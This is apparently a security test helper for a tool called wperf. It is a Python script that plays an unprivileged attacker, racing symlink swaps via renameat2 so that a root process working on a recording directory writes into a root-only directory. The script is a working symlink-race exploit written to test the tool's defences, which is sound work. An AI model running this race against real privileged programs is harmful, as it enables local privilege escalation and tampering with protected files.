#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""The attacker of tests/test_safety.py: run as the unprivileged user who
owns the parent of a `wperf record` output directory, it swaps that
directory for one of its own while root works on it, and in that one keeps
exchanging subdirectories with symbolic links to a root-only directory
(renameat2(RENAME_EXCHANGE), as fast as it can), so that a root that walks
or writes by path lands in the root-only directory.

usage: safety_swapper.py MODE TARGET VICTIM STOPFILE
  now            rename TARGET to TARGET.real now, put the racing
                 directory in its place
  after-stop     wait until TARGET/wperf.json says "running": false
                 (`wperf stop` has begun), then the same
It forks: the parent returns once the swap is made (now: so that a
recorded command can end right then) or armed (after-stop), the child races until STOPFILE exists (at
most 120 s), then writes STOPFILE.done.
"""

import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
PAIRS = 48

libc = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE)


def build_racing_dir(path, victim):
    """path/sub-N (a directory with files and a subdirectory, as a trace
    has) beside path/lnk-N -> victim, N < PAIRS; and a kernel/metadata of
    the user's, for a root that checks the trace by path."""
    os.mkdir(path, 0o755)
    os.mkdir(os.path.join(path, 'kernel'))
    with open(os.path.join(path, 'kernel', 'metadata'), 'w') as f:
        f.write('/* CTF 1.8 */\n')
    for i in range(PAIRS):
        sub = os.path.join(path, 'sub-%d' % i)
        os.mkdir(sub)
        os.mkdir(os.path.join(sub, 'inner'))
        for name in ('metadata', 'secret', 'channel0_0'):
            with open(os.path.join(sub, name), 'w') as f:
                f.write('attacker\n')
        os.symlink(victim, os.path.join(path, 'lnk-%d' % i))


def race(path, stopfile):
    deadline = time.monotonic() + 120
    pairs = [(os.path.join(path, 'sub-%d' % i), os.path.join(path, 'lnk-%d' % i))
             for i in range(PAIRS)]
    while not os.path.exists(stopfile) and time.monotonic() < deadline:
        for a, b in pairs:
            exchange(a, b)


def stopping(target):
    """Whether `wperf stop` has begun."""
    try:
        with open(os.path.join(target, 'wperf.json')) as f:
            return '"running": false' in f.read()
    except OSError:
        return False


def wait_stopping(target, stopfile):
    deadline = time.monotonic() + 120
    while not os.path.exists(stopfile) and time.monotonic() < deadline:
        if stopping(target):
            return True
        time.sleep(0.001)
    return False


def main():
    mode, target, victim, stopfile = sys.argv[1:5]
    evil = target + '.evil'
    build_racing_dir(evil, victim)
    r, w = os.pipe()
    if os.fork():
        os.close(w)
        os.read(r, 1)       # the swap is made (or the child gave up)
        return 0
    os.close(r)
    open(stopfile + '.armed', 'w').close()
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):        # nobody waits for the racer's output
        os.dup2(devnull, fd)
    try:
        if mode != 'now':
            os.write(w, b'1')       # armed: the parent may return
        if mode == 'now' or wait_stopping(target, stopfile):
            os.rename(target, target + '.real')
            os.rename(evil, target)
        if mode == 'now':
            os.write(w, b'1')
        os.close(w)
        race(target, stopfile)
    finally:
        open(stopfile + '.done', 'w').close()
        os._exit(0)


if __name__ == '__main__':
    sys.exit(main())
